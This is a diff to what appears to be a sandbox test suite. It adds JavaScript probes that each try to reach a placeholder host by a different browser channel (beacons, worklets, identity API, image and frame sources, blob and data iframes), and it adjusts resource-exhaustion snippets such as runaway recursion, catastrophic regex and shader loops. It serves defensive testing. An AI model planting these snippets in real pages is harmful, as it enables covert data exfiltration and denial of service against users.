@@ -58,6 +58,26 @@ NETWORK = {
     "report": "new ReportingObserver(() => fetch(HOST)).observe();",
     "csp-report": "document.head.append(Object.assign(document.createElement('meta'),"
     "{ httpEquiv: 'Content-Security-Policy', content: `img-src none; report-uri ${HOST}` })); new Image().src = HOST;",
+    "fetch-later": "fetchLater(HOST, { activateAfter: 0 });",
+    "page-hide": "addEventListener('pagehide', () => { navigator.sendBeacon(HOST, 'x'); fetch(HOST, { keepalive: true, mode: 'no-cors' }); });",
+    "identity": "navigator.credentials.get({ identity: { providers: [{ configURL: HOST, clientId: 'x' }] } }).catch(() => 0);",
+    "audio-worklet": "new AudioContext().audioWorklet.addModule(HOST).catch(() => 0);",
+    "paint-worklet": "CSS.paintWorklet.addModule(HOST).catch(() => 0);",
+    "web-socket-stream": "new WebSocketStream(SOCKET).opened.catch(() => 0);",
+    "poster": "document.body.append(Object.assign(document.createElement('video'), { poster: HOST }));",
+    "srcset": "document.body.append(Object.assign(new Image(), { srcset: `${HOST} 1x` }));",
+    "input-image": "document.body.append(Object.assign(document.createElement('input'), { type: 'image', src: HOST }));",
+    "embed": "document.body.append(Object.assign(document.createElement('embed'), { src: HOST }));",
+    "navigation": "navigation.navigate(HOST);",
+    "link-preload": "document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'image', href: HOST }));",
+    "svg-filter": "document.body.insertAdjacentHTML('beforeend', `<svg><filter id=f><feImage href='${HOST}'/></filter>"
+    "<rect filter='url(#f)' width=9 height=9 /></svg>`);",
+    "frame-script": "document.body.append(Object.assign(document.createElement('iframe'), { src: `javascript:fetch('${HOST}')` }));",
+    "frame-data": "document.body.append(Object.assign(document.createElement('iframe'),"
+    "{ src: `data:text/html,<script>fetch('${HOST}')</script>` }));",
+    "frame-blob": "document.body.append(Object.assign(document.createElement('iframe'),"
+    "{ src: URL.createObjectURL(new Blob([`<script>fetch('${HOST}')</script>`], { type: 'text/html' })) }));",
+    "location-blob": "location.href = URL.createObjectURL(new Blob([`<script>fetch('${HOST}')</script>`], { type: 'text/html' }));",
 }
 
 FILES = {
@@ -147,7 +167,7 @@ EXHAUSTION = {
     "strings": "let s = 'x'; for (let i = 0; i < 29; i++) s += s; const all = []; for (let i = 0; i < 64; i++) all.push(s + i);",
     "recursion": "const f = () => f(); f();",
     "regex": "/^(a+)+$/.test('a'.repeat(40) + 'b');",
-    "contexts": "for (let i = 0; i < 64; i++) createGraphics(900, 900, WEBGL);",
+    "contexts": "for (let i = 0; i < 40; i++) createGraphics(900, 900, WEBGL);",
     "shader": "const g = document.createElement('canvas').getContext('webgl2'); const s = g.createShader(g.FRAGMENT_SHADER);"
     "g.shaderSource(s, '#version 300 es\\nprecision highp float; out vec4 o; void main() { float a = 0.;'"
     " + 'for (int i = 0; i < 100000000; i++) a += sin(a);' + 'o = vec4(a); }'); g.compileShader(s);",
